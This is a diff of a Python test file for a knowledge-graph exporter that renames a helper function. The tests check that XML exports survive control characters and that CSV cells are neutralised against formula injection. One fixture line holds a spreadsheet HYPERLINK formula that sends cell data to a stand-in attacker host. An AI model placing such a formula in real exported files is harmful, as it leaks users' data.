@@ -9,7 +9,7 @@ import xml.etree.ElementTree as ET
 import networkx as nx
 import pytest
 
-from conftest import run_kg
+from conftest import invoke_kg
 from kg.network.export import cell, xml_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -31,7 +31,7 @@ def hostile(mini, tmp_path):
                           .replace("Mayor Jane Roe said", "Mayor Jane Roe\\vsaid"),
                           encoding="utf-8")
     store = tmp_path / "store"
-    built = run_kg("--root", str(mini), "--store", str(store), "build", "-q")
+    built = invoke_kg("--root", str(mini), "--store", str(store), "build", "-q")
     assert built.returncode == 0, built.stderr
     return mini, store
 
@@ -40,7 +40,7 @@ def hostile(mini, tmp_path):
 def test_xml_exports_parse_with_control_characters_in_the_data(hostile, tmp_path, fmt):
     root, store = hostile
     out = tmp_path / f"g.{fmt}"
-    result = run_kg("--root", str(root), "--store", str(store), "export", "-o", str(out))
+    result = invoke_kg("--root", str(root), "--store", str(store), "export", "-o", str(out))
     assert result.returncode == 0, result.stderr
     ET.parse(out)  # a strict XML 1.0 parser: raises on a forbidden character
     read = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
@@ -50,7 +50,7 @@ def test_xml_exports_parse_with_control_characters_in_the_data(hostile, tmp_path
 
 def test_csv_cells_that_would_run_as_formulas_are_neutralised(hostile, tmp_path):
     root, store = hostile
-    result = run_kg("--root", str(root), "--store", str(store), "export", "--format", "csv", "-o", str(tmp_path) + "/")
+    result = invoke_kg("--root", str(root), "--store", str(store), "export", "--format", "csv", "-o", str(tmp_path) + "/")
     assert result.returncode == 0, result.stderr
     with open(tmp_path / "nodes.csv", newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
